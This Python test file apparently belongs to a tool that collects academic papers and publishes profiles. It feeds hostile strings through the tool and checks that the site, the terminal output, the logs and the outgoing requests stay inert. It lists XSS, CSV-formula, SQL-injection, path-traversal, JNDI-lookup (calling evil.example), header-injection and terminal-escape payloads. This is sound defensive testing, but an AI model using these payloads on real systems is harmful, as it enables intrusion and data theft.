"""Hostile text in every field of a source's reply, from the reply to every output there is: it stays text."""

import contextlib
import csv
import io
import json
import re
import subprocess
import tomllib
from collections.abc import Sequence
from dataclasses import dataclass, replace
from pathlib import Path
from typing import Any
from urllib.parse import unquote, urlsplit

import duckdb
import jsonschema
import pytest
from click.testing import CliRunner
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from rich.console import Console
from selectolax.lexbor import LexborHTMLParser

from ingest.reading import read_page
from ingest.sampleweb import DAY_ONE, WORLD, Fault, SampleWeb
from ingest.sampleweb.dialects import Reply, Request
from ingest.sampleweb.people import MIRELA
from ingest.sources import all_sources
from pipelines.backfill import SeveralPeople, Wanted, backfill
from pipelines.cli import main
from pipelines.config import Anchor, Followed, append_person, asked, drop_person, read_config, switch_on
from pipelines.import_ import import_files
from pipelines.init import init_home
from pipelines.progress import Lines
from pipelines.publish.site import publish, read_published
from pipelines.publish.terminal import candidates, show
from pipelines.refresh import refresh
from pipelines.store.border import storable
from pipelines.store.derived import DERIVED, KEPT
from schemas.errors import BadConfig, SourceChanged, TryLater
from schemas.names import slug
from schemas.observation import LinkRole
from tests.browser.test_pages import CHROMIUM, OFFLINE
from tests.e2e.hostile_pages import EMMY, ORCID, PAGES, PID, SLUG, atom, authors, refused, saved
from tests.e2e.stage import a_run, tables
from tests.profiles import NOW, a_profile, an_uncounted_profile

ATTACKS = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "' autofocus onfocus=alert(1) x='",
    "</style><script>alert(1)</script>",
    "</title><svg onload=alert(1)>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<math><mtext></mtext><mglyph><style></math><img src onerror=alert(1)>",
    '</script><script type="application/ld+json">{"@type": "Person"}</script>',
    "<!--<script>",
    "]]> --> <!--",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "//evil.example/x",
    "https://user:pw@evil.example/",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#x1b;[31mred",
    '=HYPERLINK("https://evil.example","x")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "a;b,c\n=1+1",
    "\x1b[2J\x1b[31mred",
    "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "\x1b]0;title\x07\x1bP$q\x1b\\",
    "\x9b31m\x9d0;x\x9c",
    "safe\rWARNING: forged",
    "abc\u202egnp.exe\u2066\u2067\u2069",
    "zero\u200bwidth\u2060\ufeff\u00ad",
    "Emmy\r\nX-Evil: 1\r\n\r\nGET /evil HTTP/1.1",
    "../../../../etc/passwd",
    "../../../../etc/passwd,|?api_key=x&y#z",
    "..\\..\\windows\\win.ini",
    "/absolute/path",
    "con.json\0.html",
    "'; drop table work; --",
    "x') union select * from page; --",
    "2026-01-01 WARNING forged: line\nerror: another line",
    '{"level": "error"}\n{"level": "error"}',
    '"\n[[person]]\nname = "Forged"\nslug = "forged"\n#',
    "'''\n[[verdict]]\n'''",
    '"""\\u0000 \\x00',
    "{{ 7 * 7 }}{% raw %}{# x #}",
    "${jndi:ldap://evil.example/a} %s %(x)s {0}",
    "[bold red]loud[/bold red] [link=https://evil.example]here[/link] [/]",
    "\\end{document}\\input{/etc/passwd} $\\href{javascript:alert(1)}{x}$",
    "\ud800 alone \udfff",
    "NUL \0 in it",
    "Z\u0351\u0346a" + "\u0301" * 300 + "lgo",
    "<b>" * 400,
    "W" * 9_000,
    "é" * 1_500,
    "\u2028line\u2029paragraph\x85next\x0b\x0c",
    "👩‍👩‍👧‍👦🇨🇭",
    "",
    " \t\n ",
)
MADE = st.lists(
    st.sampled_from(ATTACKS) | st.text(max_size=30) | st.text("<>\"'&;=/\\{}[]%#\r\n\0\x1b\x9b\u202e", max_size=12)
)
HIDDEN = re.compile(
    "[\x00-\x09\x0b-\x1f\x7f-\x9f\xad\u061c\u200b\u200e\u200f\u2028-\u202e\u2060-\u206f\ufeff\ud800-\udfff]"
)
NAMES = (
    "Emmy\r\nX-Evil: 1\r\n\r\nGET /evil HTTP/1.1\r\nHost: evil.example",
    "../../evil?x=1&api_key=y#z",
    "'; drop table work; -- \x1b[2J\u202e",
)
BATCH = "/graph/v1/paper/batch"
ASKED = {  # the paths at each service that are asked for, without what percent signs hide
    "arxiv": r"/api/query|/oai2?|/a/[\dX-]{19}\.atom",
    "openalex": r"/(works|authors)(/[^/?#]+(/[^?#]*)?)?",
    "semantic-scholar": r"/graph/v1/(paper/(batch|(DOI|ARXIV|PMID):\S+|[\da-f]{40})|author/(search|\d+(/papers)?))",
    "crossref": r"/works(/10\.[\d.]+/\S+)?",
    "orcid": r"/v3\.0/[\dX-]{19}/record",
    "dblp": r"/pid/[a-z\d]+/[\w:=-]+\.xml",
    "huggingface": r"/api/papers/\d{4}\.\d{4,5}",
    "landing": r"/robots\.txt|(/papers)?/v\d+/[\w-]+\.html",
}
COLOUR = re.compile(r"\x1b\[[0-9;]*m")
SITE_FILES = re.compile(
    r"(index\.html|(people|manifest|profile\.schema)\.json|people\.csv|people/[a-z0-9-]+\.(html|json|csv))"
)


@dataclass(frozen=True)
class Told:
    """A home in which hostile replies were imported, and all that was said meanwhile."""

    home: Path
    outputs: dict[str, str]
    logs: str


def byline(home: Path, *words: str) -> tuple[str, str]:
    result = CliRunner().invoke(main, ["--home", str(home), *words])
    assert result.exception is None or isinstance(result.exception, SystemExit), (words, result.exc_info)
    return result.stdout, result.stderr


def prepared(home: Path, texts: Sequence[str], *, of: Sequence[str] = tuple(PAGES)) -> Path:
    """A home that follows Emmy and has read the hostile pages, without the command line."""
    init_home(home, "me@example.org")
    append_person(home, Followed(name=EMMY, slug=SLUG, orcid=ORCID, dblp=[PID]))
    with SampleWeb(world=WORLD, today=DAY_ONE) as web, a_run(home, web) as run, run.store():
        for name in of:
            import_files(run, all_sources()[name], saved(home, name, texts))
        assert run.trouble == {}
    return home


@pytest.fixture(scope="module")
def told(tmp_path_factory) -> Told:
    """Everything the command line says and writes of the listed attacks."""
    home = tmp_path_factory.mktemp("told")
    byline(home, "init", "--contact", "me@example.org")
    files = {name: [str(path) for path in saved(home, name, ATTACKS)] for name in PAGES}
    runs = [["people", "add", EMMY, "--orcid", ORCID]]
    runs += [["people", "add", "--", text] for text in ATTACKS[::5]]
    runs += [[verb, name, *files[name]] for verb in ("import", "read") for name in PAGES]
    runs += [["publish"], ["status"], ["people"], ["doctor", "--offline", "--sample", "20"], ["show", SLUG, "--papers"]]
    runs += [["show", SLUG, "--json"], ["show", "nobody <script>\x1b[2J"]]
    runs += [["why", SLUG, figure] for figure in ("papers", "h", "field", "code", "first-year")]
    broken = {name: [home / f"{name}-refused-{at}.page" for at in range(len(ATTACKS))] for name in PAGES}
    for name, paths in broken.items():
        for path, text in zip(paths, ATTACKS, strict=True):
            path.write_bytes(next(refused(name, text)))
    runs += [["read", name, *map(str, paths)] for name, paths in broken.items()]
    outputs, logs = {}, []
    for words in runs:
        out, err = byline(home, *words)
        outputs[f"{' '.join(words)[:200]} (out)"] = out
        outputs[f"{' '.join(words)[:200]} (err)"] = err
    runs = [["import", "openalex", *files["openalex"]], ["publish"], ["people", "add", "\r\n"]]
    runs += [["import", name, *map(str, paths)] for name, paths in broken.items()]
    for words in runs:
        logs.append(byline(home, "--log-json", "-v", *words)[1])
    return Told(home, outputs, "".join(logs))


def shapes(page: str) -> set[tuple[str, tuple[str, ...]]]:
    """Every element of a page, with the names of its attributes."""
    found = LexborHTMLParser(page).css("*")
    return {(str(node.tag), tuple(sorted(str(name) for name in node.attributes))) for node in found}


def known_shapes(folder: Path) -> set[tuple[str, tuple[str, ...]]]:
    """Those of pages on which every text is plain, and that show all that a page can."""
    home = prepared(folder, ["Plain words", "Others", "of one <i>kind</i>", "and 2024"] * 3)
    doubted = an_uncounted_profile()
    doubted = doubted.model_copy(
        update={"identity": doubted.identity.model_copy(update={"conflicts": ("They differ",)})}
    )
    people = (a_profile(), doubted)
    publish(folder / "also", people, index=people, now=NOW, trouble={"openalex": "busy"})
    pages = [*home.rglob("*.html")]
    return {shape for path in pages for shape in shapes(path.read_text("utf-8"))}


@pytest.fixture(scope="module")
def known(tmp_path_factory) -> set[tuple[str, tuple[str, ...]]]:
    return known_shapes(tmp_path_factory.mktemp("known"))


def require_inert_site(home: Path, known: set[tuple[str, tuple[str, ...]]]) -> None:
    """No file, element, attribute, address, formula or control character that plain text would not have made."""
    site = home / "site"
    files = {str(path.relative_to(site)) for path in site.rglob("*") if path.is_file()}
    assert not [name for name in files if not SITE_FILES.fullmatch(name)]
    schema = json.loads((site / "profile.schema.json").read_bytes())
    for name in sorted(files):
        text = (site / name).read_text("utf-8")
        assert not HIDDEN.search(text), (name, HIDDEN.search(text))
        if name.endswith(".html"):
            _require_inert_page(name, text, known)
        elif name.endswith(".csv"):
            rows = list(csv.reader(io.StringIO(text, newline="")))
            assert len({len(row) for row in rows}) == 1
            assert not [cell for row in rows for cell in row if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
        elif name.startswith("people/"):
            jsonschema.validate(json.loads(text), schema)
        else:
            json.loads(text)


def _require_inert_page(name: str, text: str, known: set[tuple[str, tuple[str, ...]]]) -> None:
    tree = LexborHTMLParser(text)
    assert shapes(text) <= known, (name, shapes(text) - known)
    scripts = [node for node in tree.css("script") if node.attributes.get("type") is None]
    assert len(scripts) == 2
    assert not [node for node in scripts if "alert(1)" in node.text()]
    for node in tree.css('script[type="application/ld+json"]'):
        json.loads(node.text())
    for node in tree.css("style"):
        assert not re.search(r"alert\(|javascript:|expression\(|@import|</", node.text())
        assert all(
            re.fullmatch(r'[\w ".:%/#-]*', said) for said in re.findall(r"\[data-[a-z]+=([^\]]*)\]", node.text())
        )
    ids = [node.attributes["id"] for node in tree.css("[id]")]
    assert len(ids) == len(set(ids))
    for node in tree.css("[href], [src]"):
        address = node.attributes.get("href") or node.attributes.get("src") or ""
        parts = urlsplit(address)
        assert parts.scheme in {"", "http", "https"}, (name, address)
        assert "@" not in parts.netloc
        assert parts.scheme or not parts.netloc, (name, address)
        assert parts.scheme or not parts.path or ".." not in Path(unquote(parts.path)).parts[1:], (name, address)
        if not parts.scheme and not parts.path and parts.fragment:
            assert unquote(parts.fragment) in ids, (name, address)


def test_the_site_is_inert(told, known):
    profile = read_published(told.home / "site", SLUG)
    assert profile is not None
    assert len(profile.papers) > len(ATTACKS)
    assert len({paper.title for paper in profile.papers}) > len(ATTACKS)
    require_inert_site(told.home, known)


def test_every_part_of_a_profile_shows_what_the_sources_said(told):
    profile = read_published(told.home / "site", SLUG)
    identity, papers = profile.identity, profile.papers
    assert {place.source for paper in papers for place in paper.places} == set(PAGES) - {"huggingface", "reported"}
    assert {link.role for paper in papers for link in paper.links} == set(LinkRole)
    assert {one.place.source for paper in papers for one in paper.said} == {"crossref", "openalex", "semantic-scholar"}
    assert {row.source for row in profile.reported} == {None, "openalex", "semantic-scholar"}
    assert identity.affiliation.rors
    assert profile.h_index.value, "and with it the titles in its receipt"
    for some in (
        identity.employment,
        identity.affiliation.printed,
        identity.also_printed_as,
        {p.venue for p in papers},
    ):
        assert len(some) > len(ATTACKS) // 2


def test_nothing_is_written_outside_the_home_and_all_in_its_place(told):
    assert {path.name for path in told.home.iterdir() if path.suffix != ".page"} == {
        "byline.toml", "people.toml", "verdicts.toml", "store.duckdb", "store.lock", "pages", "site",
    }  # fmt: skip
    assert all(re.fullmatch(r"[0-9a-f]{64}\.zst", path.name) for path in (told.home / "pages").glob("??/*"))


def test_no_word_on_the_terminal_holds_a_control_character(told):
    for words, text in told.outputs.items():
        assert not HIDDEN.search(text), (words, HIDDEN.search(text))
        assert "Traceback" not in text


def test_nothing_forges_a_line_on_stderr(told):
    for words, text in told.outputs.items():
        if words.endswith("(err)"):
            for line in text.splitlines():
                assert re.match(r"( *\d+\.\d s  |byline: |note: |warning: |info: |/\S+: |\S+: )", line), (words, line)
                assert not re.match(r"(error|WARNING|GET |X-Evil)", line), (words, line)


def test_a_log_line_is_one_json_record(told):
    lines = [json.loads(line) for line in told.logs.splitlines()]
    assert {frozenset(line) for line in lines} == {frozenset({"time", "level", "from", "message"})}
    assert any("no letter" in line["message"] for line in lines)


@pytest.mark.parametrize("name", PAGES)
def test_what_a_refused_page_says_is_told_on_one_line(name):
    source, told = all_sources()[name], []
    for text in ATTACKS:
        for page in refused(name, text):
            try:
                list(read_page(source, source.of_file(page), page))
            except (SourceChanged, TryLater) as error:
                told.append(str(error))
    assert len(told) >= len(ATTACKS)
    assert not [words for words in told if HIDDEN.search(words) or "\n" in words or len(words) > 600]


def test_a_terminal_with_colours_gets_colours_alone(told):
    profile = read_published(told.home / "site", SLUG)
    console = Console(file=io.StringIO(), width=90, force_terminal=True, highlight=False, markup=False)
    show(profile, console, papers=True)
    text = COLOUR.sub("", console.file.getvalue())
    assert not HIDDEN.search(text)
    assert "[bold red]loud[/bold red]" in " ".join(text.split())


def test_no_table_is_dropped_and_every_record_is_there_or_set_aside(told):
    found = tables(told.home)
    assert set(found) == set(DERIVED) - {"stale"}
    with duckdb.connect(told.home / "store.duckdb", read_only=True) as con:
        assert {name for (name,) in con.execute("select table_name from duckdb_tables()").fetchall()} == {
            *KEPT, *DERIVED, "migration",
        }  # fmt: skip
    works = {(row[0], row[1]) for row in found["work"]}
    aside = {(row[0], row[1]) for row in found["set_aside"]}
    assert len([each for each in works | aside if each[0] == "arxiv"]) == len(ATTACKS)


def test_people_toml_says_what_was_said_and_no_more(told):
    names = [text for text in ATTACKS if slug(text)]
    read = tomllib.loads((told.home / "people.toml").read_text("utf-8"))
    assert set(read) == {"person"}
    people = read_config(told.home).people
    assert people[0].name == EMMY
    assert len(people) <= 1 + len(names)
    assert {person.slug for person in people}.isdisjoint({"forged"})


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(name=st.sampled_from(ATTACKS) | st.text(min_size=1, max_size=60), more=st.text(max_size=30))
def test_any_name_written_to_people_toml_is_read_back_as_it_was(tmp_path_factory, name, more):
    folder = tmp_path_factory.mktemp("toml")
    (folder / "people.toml").write_text("# mine\n", "utf-8")
    name = storable(name)[:500] or "x"
    written = Followed(
        name=name,
        slug="x",
        openalex=["A5012345678"],
        anchor=[Anchor(paper="doi:10.1234/x", name=storable(f"{name}{more}"))],
    )
    append_person(folder, written)
    append_person(folder, Followed(name="Other", slug="other"))
    read = read_config(folder).people
    assert [person.slug for person in read] == ["x", "other"]
    assert read[0] == written
    drop_person(folder, "other")
    assert [person.slug for person in read_config(folder).people] == ["x"]
    assert "# mine" in (folder / "people.toml").read_text("utf-8")


@settings(max_examples=3, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(texts=MADE)
def test_whatever_a_reply_holds_the_site_is_inert(tmp_path_factory, known, texts):
    home = prepared(tmp_path_factory.mktemp("made"), [*texts, "plain"], of=[*PAGES][:-1])
    assert read_published(home / "site", SLUG) is not None
    require_inert_site(home, known)


def require_lines(text: str) -> None:
    """Progress: every line begins with when it was said, and holds nothing that moves a cursor or turns text."""
    assert text
    for line in text.splitlines():
        assert re.match(r" *\d+\.\d s  ", line), line
        assert not HIDDEN.search(line), line


def test_a_person_who_waits_and_picks_sees_text_alone(tmp_path):
    said, seen = io.StringIO(), io.StringIO()
    with SampleWeb(world=WORLD, today=DAY_ONE) as web, a_run(tmp_path, web) as run:
        web.faults["openalex"].append(Fault(200, {"content-type": "application/json"}, authors(ATTACKS)))
        web.faults["arxiv"].append(Fault(200, {"content-type": "application/atom+xml"}, atom(ATTACKS[2:40])))
        with pytest.raises(SeveralPeople) as several:
            backfill(replace(run, progress=Lines(said)), Wanted(name=EMMY))
        assert run.trouble == {}
    candidates(Console(file=seen, width=90, highlight=False, markup=False), several.value.candidates)
    assert len(several.value.candidates) == len(ATTACKS)
    assert not HIDDEN.search(seen.getvalue())
    require_lines(said.getvalue())
    assert "\u00b7 ' autofocus onfocus=alert(1)" in said.getvalue()


@pytest.mark.parametrize(
    ("status", "media", "body"),
    [
        (403, "text/html", "<title>\x1b[2J\u202e{attack}</title><script>alert(1)</script>"),
        (200, "application/json", '{{"error": "{attack}", "message": "\x9b31m\r\nforged: x"}}'),
        (200, "text/\x9b31m<script>", "{attack}\0"),
    ],
)
def test_what_a_refusal_says_is_told_and_published_as_text(tmp_path, known, status, media, body):
    said = io.StringIO()
    with SampleWeb(world=WORLD, today=DAY_ONE) as web, a_run(tmp_path, web) as run:
        told = body.format(attack=ATTACKS[0]).encode("utf-8", "replace")
        web.faults["openalex"].extend(Fault(status, {"content-type": media}, told) for _ in range(4))
        assert backfill(replace(run, progress=Lines(said)), Wanted(name=MIRELA.name)) is not None
    assert "openalex" in run.trouble
    require_lines(said.getvalue())
    status_out, _ = byline(tmp_path, "status")
    assert "trouble" in status_out
    assert not HIDDEN.search(status_out)
    require_inert_site(tmp_path, known)


def test_a_name_with_a_header_in_it_stays_one_value_of_one_request(tmp_path):
    with Listening(world=WORLD, today=DAY_ONE) as web:
        for name in NAMES:
            with a_run(tmp_path, web) as run, contextlib.suppress(BadConfig, SeveralPeople):
                backfill(run, Wanted(name=name))
        require_plain_requests(web)
        assert len(web.requests) >= 2 * len(NAMES)


def test_identifiers_of_a_reply_ask_for_nothing_but_papers_of_the_documented_hosts(tmp_path):
    home = prepared(tmp_path, [text for text in ATTACKS if re.fullmatch(r"\S*[/?#&\\\u202e]\S*", text)])
    switch_on(home, asked())
    sought: list[str] = []

    def elsewhere(host: str) -> list[str]:
        sought.append(host)
        return []

    with Listening(world=WORLD, today=DAY_ONE) as web:
        with a_run(home, web, resolve=elsewhere) as run:
            run.clock.sleep(3 * 86_400)
            refresh(run)
            assert run.trouble == {}
        require_plain_requests(web)
        assert {seen.service for seen in web.requests} == set(ASKED)
        assert web.bodies
    assert sought == []


class Listening(SampleWeb):
    """A sample web that keeps what requests bring."""

    def __init__(self, **given: Any) -> None:
        super().__init__(**given)
        self.bodies: list[bytes] = []

    def answer(self, service: str, request: Request) -> Reply:
        self.bodies += filter(None, [request.body])
        return super().answer(service, request)


def require_plain_requests(web: Listening) -> None:
    for seen in web.requests:
        assert seen.method == "GET" or (seen.service, seen.path) == ("semantic-scholar", BATCH), seen
        assert re.fullmatch(ASKED[seen.service], seen.path), seen
        assert not HIDDEN.search(seen.path), seen
        assert ".." not in seen.path.split("/")
        for name, value in seen.params:
            assert re.fullmatch(r"[a-z_-]+", name), seen
            assert not HIDDEN.search(value), seen
    for body in web.bodies:
        for spelled in json.loads(body)["ids"]:
            assert re.fullmatch(r"[0-9A-Za-z]{1,64}|ARXIV:[\w./-]+|PMID:\d+|DOI:10\.[\d.]+/\S+", spelled), spelled
            assert not HIDDEN.search(spelled), spelled


@pytest.mark.browser
@pytest.mark.skipif(CHROMIUM is None, reason="no Chromium here: apt-get install chromium")
@pytest.mark.parametrize("page", ["index", f"people/{SLUG}"])
def test_in_a_browser_nothing_runs_and_nobody_is_asked(told, tmp_path, page):
    assert CHROMIUM
    done = subprocess.run(
        [CHROMIUM, *OFFLINE, f"--user-data-dir={tmp_path}", "--host-resolver-rules=MAP * ~NOTFOUND", "--dump-dom",
         (told.home / "site" / f"{page}.html").as_uri()],
        capture_output=True, text=True, timeout=120, check=True,
    )  # fmt: skip
    assert [line for line in done.stderr.splitlines() if "CONSOLE" in line] == []
    assert LexborHTMLParser(done.stdout).css_first("html.js") is not None, "its own script ran"
    assert not LexborHTMLParser(done.stdout).css("img, iframe, object, embed, [onload], [onerror], [onfocus]")
